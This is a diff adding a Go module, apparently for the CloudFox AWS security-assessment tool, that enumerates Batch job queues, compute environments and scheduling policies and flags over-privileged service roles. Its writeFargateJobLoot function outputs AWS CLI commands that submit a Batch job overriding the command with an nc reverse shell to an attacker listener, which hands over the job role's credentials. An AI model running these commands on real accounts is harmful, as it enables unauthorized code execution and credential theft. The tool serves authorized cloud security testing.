@@ -0,0 +1,460 @@
+package aws
+
+import (
+	"fmt"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+
+	"github.com/BishopFox/cloudfox/aws/sdk"
+	"github.com/BishopFox/cloudfox/internal"
+	"github.com/aws/aws-sdk-go-v2/aws"
+	batchTypes "github.com/aws/aws-sdk-go-v2/service/batch/types"
+	"github.com/aws/aws-sdk-go-v2/service/sts"
+	"github.com/bishopfox/awsservicemap"
+	"github.com/sirupsen/logrus"
+)
+
+type BatchSchedulingModule struct {
+	// General configuration data
+	BatchClient sdk.BatchClientInterface
+	IAMClient   sdk.AWSIAMClientInterface
+
+	Caller        sts.GetCallerIdentityOutput
+	AWSRegions    []string
+	AWSOutputType string
+	AWSTableCols  string
+
+	Goroutines int
+	AWSProfile string
+	WrapTable  bool
+
+	// Main module data
+	Entries        []BatchSchedulingEntry
+	CommandCounter internal.CommandCounter
+	// Used to store output data for pretty printing
+	output internal.OutputData2
+	modLog *logrus.Entry
+}
+
+// A BatchSchedulingEntry is a job queue paired with one of the compute environments it places jobs on. Scheduling
+// policies that aren't attached to any job queue get an entry of their own with an empty job queue.
+type BatchSchedulingEntry struct {
+	Region             string
+	JobQueue           string
+	State              string
+	SchedulingPolicy   string
+	Shares             []string
+	ComputeEnvironment string
+	CEType             string
+	Platform           string
+	ServiceRole        string
+	ExcessPermissions  []string
+	OverPrivileged     string
+}
+
+// Batch only needs its service role to manage EC2/ECS capacity and to pass the instance and execution roles it was
+// configured with. If any of these are allowed on every resource, the role can be used for far more than that.
+var batchServiceRoleExcessActions = []string{
+	"iam:PassRole",
+	"iam:CreateRole",
+	"iam:AttachRolePolicy",
+	"iam:PutRolePolicy",
+	"iam:CreateAccessKey",
+	"sts:AssumeRole",
+	"lambda:CreateFunction",
+	"ssm:SendCommand",
+}
+
+func (m *BatchSchedulingModule) PrintBatchScheduling(outputDirectory string, verbosity int) {
+	// These struct values are used by the output module
+	m.output.Verbosity = verbosity
+	m.output.Directory = outputDirectory
+	m.output.CallingModule = "batch-scheduling"
+	m.modLog = internal.TxtLog.WithFields(logrus.Fields{
+		"module": m.output.CallingModule,
+	})
+	if m.AWSProfile == "" {
+		m.AWSProfile = internal.BuildAWSPath(m.Caller)
+	}
+
+	fmt.Printf("[%s][%s] Enumerating Batch scheduling policies and job queues for account %s.\n", cyan(m.output.CallingModule), cyan(m.AWSProfile), aws.ToString(m.Caller.Account))
+
+	wg := new(sync.WaitGroup)
+	semaphore := make(chan struct{}, m.Goroutines)
+
+	// Create a channel to signal the spinner aka task status goroutine to finish
+	spinnerDone := make(chan bool)
+	//fire up the the task status spinner/updated
+	go internal.SpinUntil(m.output.CallingModule, &m.CommandCounter, spinnerDone, "regions")
+
+	//create a channel to receive the objects
+	dataReceiver := make(chan BatchSchedulingEntry)
+
+	// Create a channel to signal to stop
+	receiverDone := make(chan bool)
+
+	go m.Receiver(dataReceiver, receiverDone)
+
+	for _, region := range m.AWSRegions {
+		wg.Add(1)
+		m.CommandCounter.Pending++
+		go m.executeChecks(region, wg, semaphore, dataReceiver)
+	}
+
+	wg.Wait()
+
+	// Send a message to the spinner goroutine to close the channel and stop
+	spinnerDone <- true
+	<-spinnerDone
+	receiverDone <- true
+	<-receiverDone
+
+	m.analyzeServiceRoles()
+
+	sort.Slice(m.Entries, func(i, j int) bool {
+		if m.Entries[i].Region != m.Entries[j].Region {
+			return m.Entries[i].Region < m.Entries[j].Region
+		}
+		return m.Entries[i].JobQueue < m.Entries[j].JobQueue
+	})
+
+	m.output.Headers = []string{
+		"Account",
+		"Region",
+		"Job Queue",
+		"State",
+		"Scheduling Policy",
+		"Shares",
+		"Compute Environment",
+		"CE Type",
+		"Platform",
+		"Service Role",
+		"Excess Permissions",
+		"Over-privileged?",
+	}
+
+	// If the user specified table columns, use those.
+	// If the user specified -o wide, use the wide default cols for this module.
+	// Otherwise, use the hardcoded default cols for this module.
+	var tableCols []string
+	// If the user specified table columns, use those.
+	if m.AWSTableCols != "" {
+		// If the user specified wide as the output format, use these columns.
+		// remove any spaces between any commas and the first letter after the commas
+		m.AWSTableCols = strings.ReplaceAll(m.AWSTableCols, ", ", ",")
+		m.AWSTableCols = strings.ReplaceAll(m.AWSTableCols, ",  ", ",")
+		tableCols = strings.Split(m.AWSTableCols, ",")
+	} else if m.AWSOutputType == "wide" {
+		tableCols = []string{
+			"Account",
+			"Region",
+			"Job Queue",
+			"State",
+			"Scheduling Policy",
+			"Shares",
+			"Compute Environment",
+			"CE Type",
+			"Platform",
+			"Service Role",
+			"Excess Permissions",
+			"Over-privileged?",
+		}
+		// Otherwise, use the default columns.
+	} else {
+		tableCols = []string{
+			"Region",
+			"Job Queue",
+			"Scheduling Policy",
+			"Compute Environment",
+			"Service Role",
+			"Over-privileged?",
+		}
+	}
+
+	// Table rows
+	for i := range m.Entries {
+		m.output.Body = append(
+			m.output.Body,
+			[]string{
+				aws.ToString(m.Caller.Account),
+				m.Entries[i].Region,
+				m.Entries[i].JobQueue,
+				m.Entries[i].State,
+				m.Entries[i].SchedulingPolicy,
+				strings.Join(m.Entries[i].Shares, ", "),
+				m.Entries[i].ComputeEnvironment,
+				m.Entries[i].CEType,
+				m.Entries[i].Platform,
+				m.Entries[i].ServiceRole,
+				strings.Join(m.Entries[i].ExcessPermissions, ", "),
+				m.Entries[i].OverPrivileged,
+			},
+		)
+	}
+
+	if len(m.output.Body) > 0 {
+		m.output.FilePath = filepath.Join(outputDirectory, "cloudfox-output", "aws", fmt.Sprintf("%s-%s", m.AWSProfile, aws.ToString(m.Caller.Account)))
+		o := internal.OutputClient{
+			Verbosity:     verbosity,
+			CallingModule: m.output.CallingModule,
+			Table: internal.TableClient{
+				Wrap: m.WrapTable,
+			},
+		}
+		o.Table.TableFiles = append(o.Table.TableFiles, internal.TableFile{
+			Header:    m.output.Headers,
+			Body:      m.output.Body,
+			TableCols: tableCols,
+			Name:      m.output.CallingModule,
+		})
+		o.PrefixIdentifier = m.AWSProfile
+		o.Table.DirectoryName = filepath.Join(outputDirectory, "cloudfox-output", "aws", fmt.Sprintf("%s-%s", m.AWSProfile, aws.ToString(m.Caller.Account)))
+		o.AccountID = aws.ToString(m.Caller.Account)
+		o.BaseDirectory = outputDirectory
+
+		o.Loot.DirectoryName = o.Table.DirectoryName
+		loot := m.writeLoot()
+		if loot != "" {
+			o.Loot.LootFiles = append(o.Loot.LootFiles, internal.LootFile{
+				Name:     "batch-service-roles",
+				Contents: loot,
+			})
+		}
+		fargateLoot := m.writeFargateJobLoot()
+		if fargateLoot != "" {
+			o.Loot.LootFiles = append(o.Loot.LootFiles, internal.LootFile{
+				Name:     "batch-fargate-jobs",
+				Contents: fargateLoot,
+			})
+		}
+		o.WriteFullOutput(o.Table.TableFiles, o.Loot.LootFiles)
+		fmt.Printf("[%s][%s] %d job queue/compute environment pairs and scheduling policies found.\n", cyan(m.output.CallingModule), cyan(m.AWSProfile), len(m.output.Body))
+		fmt.Printf("[%s][%s] For context and next steps: https://github.com/BishopFox/cloudfox/wiki/AWS-Commands#%s\n", cyan(m.output.CallingModule), cyan(m.AWSProfile), m.output.CallingModule)
+	} else {
+		fmt.Printf("[%s][%s] No Batch job queues or scheduling policies found, skipping the creation of an output file.\n", cyan(m.output.CallingModule), cyan(m.AWSProfile))
+	}
+}
+
+// writeLoot lists the commands needed to review the policies of each over-privileged service role
+func (m *BatchSchedulingModule) writeLoot() string {
+	var out string
+	seen := make(map[string]bool)
+	for _, entry := range m.Entries {
+		if entry.OverPrivileged != "Yes" || seen[entry.ServiceRole] {
+			continue
+		}
+		seen[entry.ServiceRole] = true
+		roleName := entry.ServiceRole[strings.LastIndex(entry.ServiceRole, "/")+1:]
+		out += fmt.Sprintf("# %s can: %s\n", entry.ServiceRole, strings.Join(entry.ExcessPermissions, ", "))
+		out += fmt.Sprintf("aws --profile $profile iam list-attached-role-policies --role-name %s\n", roleName)
+		out += fmt.Sprintf("aws --profile $profile iam list-role-policies --role-name %s\n\n", roleName)
+	}
+	return out
+}
+
+// writeFargateJobLoot shows how batch:SubmitJob on a queue backed by Fargate becomes code execution: register a job
+// definition that runs a public alpine image, then submit a job that overrides its command with a reverse shell. The
+// container gets the credentials of whatever job role is passed to it.
+func (m *BatchSchedulingModule) writeFargateJobLoot() string {
+	var out string
+	seen := make(map[string]bool)
+	for _, entry := range m.Entries {
+		if !isBatchFargatePlatform(entry.Platform) || entry.JobQueue == "" || entry.State != string(batchTypes.JQStateEnabled) {
+			continue
+		}
+		key := entry.Region + "/" + entry.JobQueue
+		if seen[key] {
+			continue
+		}
+		seen[key] = true
+
+		if out == "" {
+			out += fmt.Sprintln("#############################################")
+			out += fmt.Sprintln("# Run a container on Fargate job queues with batch:RegisterJobDefinition and batch:SubmitJob.")
+			out += fmt.Sprintln("# Set $profile, $lhost and $lport for your listener, $job_role_arn to the role whose credentials the")
+			out += fmt.Sprintln("# container should get and $execution_role_arn to a role ECS can use to start the task. Passing them")
+			out += fmt.Sprintln("# requires iam:PassRole. The subnets of the compute environment need a route to Docker Hub and to you.")
+			out += fmt.Sprintln("#############################################")
+			out += fmt.Sprintln("")
+		}
+		out += fmt.Sprintf("# Job queue %s places jobs on %s compute environment %s\n", entry.JobQueue, entry.Platform, entry.ComputeEnvironment)
+		out += fmt.Sprintf("aws --profile $profile --region %s batch register-job-definition --job-definition-name cloudfox-fargate-job --type container --platform-capabilities FARGATE --container-properties '{\"image\":\"alpine:latest\",\"command\":[\"echo\",\"hello\"],\"jobRoleArn\":\"'$job_role_arn'\",\"executionRoleArn\":\"'$execution_role_arn'\",\"resourceRequirements\":[{\"type\":\"VCPU\",\"value\":\"0.25\"},{\"type\":\"MEMORY\",\"value\":\"512\"}],\"networkConfiguration\":{\"assignPublicIp\":\"ENABLED\"}}'\n", entry.Region)
+		out += fmt.Sprintf("aws --profile $profile --region %s batch submit-job --job-name cloudfox-fargate-job --job-queue %s --job-definition cloudfox-fargate-job --container-overrides '{\"command\":[\"sh\",\"-c\",\"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc '$lhost' '$lport' > /tmp/f\"]}'\n\n", entry.Region, entry.JobQueue)
+	}
+	return out
+}
+
+func isBatchFargatePlatform(platform string) bool {
+	return platform == string(batchTypes.CRTypeFargate) || platform == string(batchTypes.CRTypeFargateSpot)
+}
+
+func (m *BatchSchedulingModule) executeChecks(r string, wg *sync.WaitGroup, semaphore chan struct{}, dataReceiver chan BatchSchedulingEntry) {
+	defer wg.Done()
+
+	servicemap := &awsservicemap.AwsServiceMap{
+		JsonFileSource: "DOWNLOAD_FROM_AWS",
+	}
+	res, err := servicemap.IsServiceInRegion("batch", r)
+	if err != nil {
+		m.modLog.Error(err)
+	}
+	if res {
+		m.CommandCounter.Total++
+		wg.Add(1)
+		m.getBatchSchedulingPerRegion(r, wg, semaphore, dataReceiver)
+	}
+}
+
+func (m *BatchSchedulingModule) Receiver(receiver chan BatchSchedulingEntry, receiverDone chan bool) {
+	defer close(receiverDone)
+	for {
+		select {
+		case data := <-receiver:
+			m.Entries = append(m.Entries, data)
+		case <-receiverDone:
+			receiverDone <- true
+			return
+		}
+	}
+}
+
+func (m *BatchSchedulingModule) getBatchSchedulingPerRegion(r string, wg *sync.WaitGroup, semaphore chan struct{}, dataReceiver chan BatchSchedulingEntry) {
+	defer func() {
+		m.CommandCounter.Executing--
+		m.CommandCounter.Complete++
+		wg.Done()
+	}()
+	semaphore <- struct{}{}
+	defer func() {
+		<-semaphore
+	}()
+	m.CommandCounter.Pending--
+	m.CommandCounter.Executing++
+
+	// Scheduling policies and compute environments only add context to the job queues, so keep going if they can't be read
+	policies, err := sdk.CachedBatchDescribeSchedulingPolicies(m.BatchClient, aws.ToString(m.Caller.Account), r)
+	if err != nil {
+		m.modLog.Error(err.Error())
+		m.CommandCounter.Error++
+	}
+	policiesByArn := make(map[string]batchTypes.SchedulingPolicyDetail)
+	for _, policy := range policies {
+		policiesByArn[aws.ToString(policy.Arn)] = policy
+	}
+
+	computeEnvironments, err := sdk.CachedBatchDescribeComputeEnvironments(m.BatchClient, aws.ToString(m.Caller.Account), r)
+	if err != nil {
+		m.modLog.Error(err.Error())
+		m.CommandCounter.Error++
+	}
+	computeEnvironmentsByArn := make(map[string]batchTypes.ComputeEnvironmentDetail)
+	for _, computeEnvironment := range computeEnvironments {
+		computeEnvironmentsByArn[aws.ToString(computeEnvironment.ComputeEnvironmentArn)] = computeEnvironment
+	}
+
+	jobQueues, err := sdk.CachedBatchDescribeJobQueues(m.BatchClient, aws.ToString(m.Caller.Account), r)
+	if err != nil {
+		m.modLog.Error(err.Error())
+		m.CommandCounter.Error++
+		return
+	}
+
+	attachedPolicies := make(map[string]bool)
+	for _, jobQueue := range jobQueues {
+		policyArn := aws.ToString(jobQueue.SchedulingPolicyArn)
+		schedulingPolicy := "None (FIFO)"
+		var shares []string
+		if policyArn != "" {
+			attachedPolicies[policyArn] = true
+			schedulingPolicy = policyArn
+			if policy, ok := policiesByArn[policyArn]; ok {
+				schedulingPolicy = aws.ToString(policy.Name)
+				shares = getBatchPolicyShares(policy)
+			}
+		}
+
+		for _, order := range jobQueue.ComputeEnvironmentOrder {
+			entry := BatchSchedulingEntry{
+				Region:             r,
+				JobQueue:           aws.ToString(jobQueue.JobQueueName),
+				State:              string(jobQueue.State),
+				SchedulingPolicy:   schedulingPolicy,
+				Shares:             shares,
+				ComputeEnvironment: aws.ToString(order.ComputeEnvironment),
+			}
+			if computeEnvironment, ok := computeEnvironmentsByArn[aws.ToString(order.ComputeEnvironment)]; ok {
+				entry.ComputeEnvironment = aws.ToString(computeEnvironment.ComputeEnvironmentName)
+				entry.CEType = string(computeEnvironment.Type)
+				entry.ServiceRole = aws.ToString(computeEnvironment.ServiceRole)
+				if computeEnvironment.ComputeResources != nil {
+					entry.Platform = string(computeEnvironment.ComputeResources.Type)
+				}
+			}
+			dataReceiver <- entry
+		}
+	}
+
+	for _, policy := range policies {
+		if attachedPolicies[aws.ToString(policy.Arn)] {
+			continue
+		}
+		dataReceiver <- BatchSchedulingEntry{
+			Region:           r,
+			SchedulingPolicy: aws.ToString(policy.Name),
+			Shares:           getBatchPolicyShares(policy),
+		}
+	}
+}
+
+// analyzeServiceRoles simulates each unique service role once and copies the results to every entry that uses it
+func (m *BatchSchedulingModule) analyzeServiceRoles() {
+	results := make(map[string][]string)
+	for i := range m.Entries {
+		role := m.Entries[i].ServiceRole
+		if role == "" {
+			continue
+		}
+		// The service-linked role is managed by AWS and scoped to what Batch needs
+		if strings.Contains(role, "/aws-service-role/") {
+			m.Entries[i].OverPrivileged = "No"
+			continue
+		}
+
+		excess, ok := results[role]
+		if !ok {
+			evaluationResults, err := sdk.CachedIamSimulatePrincipalPolicy(m.IAMClient, aws.ToString(m.Caller.Account), aws.String(role), batchServiceRoleExcessActions, []string{"*"})
+			if err != nil {
+				m.modLog.Error(err.Error())
+				m.CommandCounter.Error++
+				m.Entries[i].OverPrivileged = "Unknown"
+				continue
+			}
+			for _, result := range evaluationResults {
+				if result.EvalDecision == "allowed" {
+					excess = append(excess, aws.ToString(result.EvalActionName))
+				}
+			}
+			results[role] = excess
+		}
+
+		m.Entries[i].ExcessPermissions = excess
+		if len(excess) > 0 {
+			m.Entries[i].OverPrivileged = "Yes"
+		} else {
+			m.Entries[i].OverPrivileged = "No"
+		}
+	}
+}
+
+func getBatchPolicyShares(policy batchTypes.SchedulingPolicyDetail) []string {
+	var shares []string
+	if policy.FairsharePolicy == nil {
+		return shares
+	}
+	for _, share := range policy.FairsharePolicy.ShareDistribution {
+		shares = append(shares, fmt.Sprintf("%s (weight %g)", aws.ToString(share.ShareIdentifier), aws.ToFloat32(share.WeightFactor)))
+	}
+	return shares
+}